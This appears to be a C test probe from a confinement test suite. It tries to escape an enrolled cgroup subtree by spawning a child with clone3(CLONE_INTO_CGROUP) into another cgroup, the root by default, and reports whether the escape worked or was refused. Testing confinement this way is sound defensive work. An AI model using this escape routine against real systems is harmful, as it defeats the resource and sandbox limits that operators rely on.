// SPDX-License-Identifier: GPL-2.0
/*
 * Route 12: spawn a child directly into a cgroup outside the enrolled
 * subtree with clone3(CLONE_INTO_CGROUP): no cgroup.procs write at all.
 * Usage: cgroup_escape_clone3 [TARGET] (default: the cgroup2 root).
 */
#define ATTACK_NAME "cgroup_escape_clone3"
#include "cgroup.h"
#include <linux/sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#ifndef CLONE_INTO_CGROUP
#define CLONE_INTO_CGROUP 0x200000000ULL
#endif

enum {
	CHILD_IN_TARGET = 0,
	CHILD_NOT_IN_TARGET = 3,
	CHILD_CANNOT_TELL = 4,
};

int main(int argc, char **argv)
{
	char target[PATH_MAX], msg[PATH_MAX + 64];
	struct clone_args args;
	int dfd, st, r;
	long pid;

	attack_init();
	cgroup_target(argc, argv, target, sizeof(target));
	r = cgroup_self_in(target);
	if (r < 0)
		attack_error("cannot compare cgroups with %s: %s", target,
			     strerror(-r));
	if (r)
		attack_error("already in %s: nothing to escape from", target);
	dfd = open(target, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		attack_error("open %s: %s", target, strerror(errno));
	memset(&args, 0, sizeof(args));
	args.flags = CLONE_INTO_CGROUP;
	args.exit_signal = SIGCHLD;
	args.cgroup = (unsigned int)dfd;
	pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid < 0)
		/*
		 * cgroup-v2.rst: CLONE_INTO_CGROUP is subject to the same
		 * permission checks as a cgroup.procs write, which refuse
		 * with EACCES, so EACCES is a refusal too.
		 */
		attack_step_failed_ex("clone3(CLONE_INTO_CGROUP)", errno, 1);
	if (pid == 0) {
		/* Raw clone3 child: plain syscalls only, then _exit. */
		r = cgroup_self_in(target);
		_exit(r < 0 ? CHILD_CANNOT_TELL :
		      r ? CHILD_IN_TARGET : CHILD_NOT_IN_TARGET);
	}
	close(dfd);
	while (waitpid((pid_t)pid, &st, 0) < 0)
		if (errno != EINTR)
			attack_error("waitpid: %s", strerror(errno));
	if (!WIFEXITED(st))
		attack_error("child ended with status %#x", st);
	if (WEXITSTATUS(st) == CHILD_NOT_IN_TARGET)
		attack_error("clone3 succeeded but the child is not in %s", target);
	if (WEXITSTATUS(st) != CHILD_IN_TARGET)
		attack_error("child could not read its cgroup (exit %d)",
			     WEXITSTATUS(st));
	snprintf(msg, sizeof(msg), "clone3 into %s succeeded", target);
	attack_worked(msg);
}
